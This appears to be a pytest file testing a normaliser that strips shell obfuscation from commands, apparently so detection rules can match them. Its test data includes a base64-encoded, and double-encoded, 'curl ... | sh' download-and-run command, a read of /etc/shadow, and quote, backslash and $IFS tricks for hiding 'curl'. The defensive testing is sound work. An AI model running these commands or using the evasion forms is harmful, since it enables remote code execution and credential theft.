"""Readings of a command: what hides a word must not hide it from a rule."""

import base64
import time

import pytest

from leadsman_normalizer.facts.commands import MAX_TEXT, command_text

B64 = base64.b64encode(b"curl http://203.0.113.7/x | sh").decode()
TWICE = base64.b64encode(f"echo {B64} | base64 -d | sh".encode()).decode()


@pytest.mark.parametrize(
    ("argv", "line"),
    [
        (["ls", "-l"], "ls -l"),
        (["sh", "-c", "id; whoami"], "id; whoami"),
        (["/bin/bash", "-lc", "id"], "id"),
        (["env", "A=b", "sh", "-c", "id"], "id"),
        (["busybox", "sh", "-c", "id"], "id"),
        (["sh", "-c", "c''url http://x"], "curl http://x"),
        (["sh", "-c", 'c"u"rl http://x'], "curl http://x"),
        (["sh", "-c", "cu\\rl http://x"], "curl http://x"),
        (["sh", "-c", "curl${IFS}http://x"], "curl http://x"),
        (["sh", "-c", "cat$IFS/etc/shadow"], "cat /etc/shadow"),
        (["sh", "-c", "cu$@rl http://x"], "curl http://x"),
        (["sh", "-c", "busybox wget http://x"], "wget http://x"),
        (["sh", "-c", "curl http://x \\\n | sh"], "curl http://x  | sh"),
        (["sh", "-c", "curl http://x |\n sh"], "curl http://x | sh"),
        (["sh", "-c", "one\ntwo"], "two"),
        (["sh", "-c", f"echo {B64} | base64 -d | sh"], "curl http://203.0.113.7/x | sh"),
        (["sh", "-c", f"echo {TWICE}|base64 --decode|sh"], "curl http://203.0.113.7/x | sh"),
        (["python3", "-c", f"import base64;exec(base64.b64decode('{B64}'))"], "curl http://203.0.113.7/x | sh"),
        ([], ""),
    ],
)
def test_a_reading_shows_the_words(argv, line):
    assert line in command_text(argv).split("\n")


@pytest.mark.parametrize("argv", [["echo", B64], ["cat", "/etc/resolv.conf"]])
def test_what_is_not_decoded_stays(argv):
    assert command_text(argv) == " ".join(argv)


@pytest.mark.parametrize(
    "word",
    ["a" * 1_000_000, "'" * 100_000, "\\" * 100_000, "$IFS" * 50_000, "env " * 50_000, "base64 " + "A" * 500_000],
)
def test_the_text_is_bounded_in_size_and_time(word):
    start = time.process_time()
    assert len(command_text(["sh", "-c", word])) <= MAX_TEXT
    assert time.process_time() - start < 1
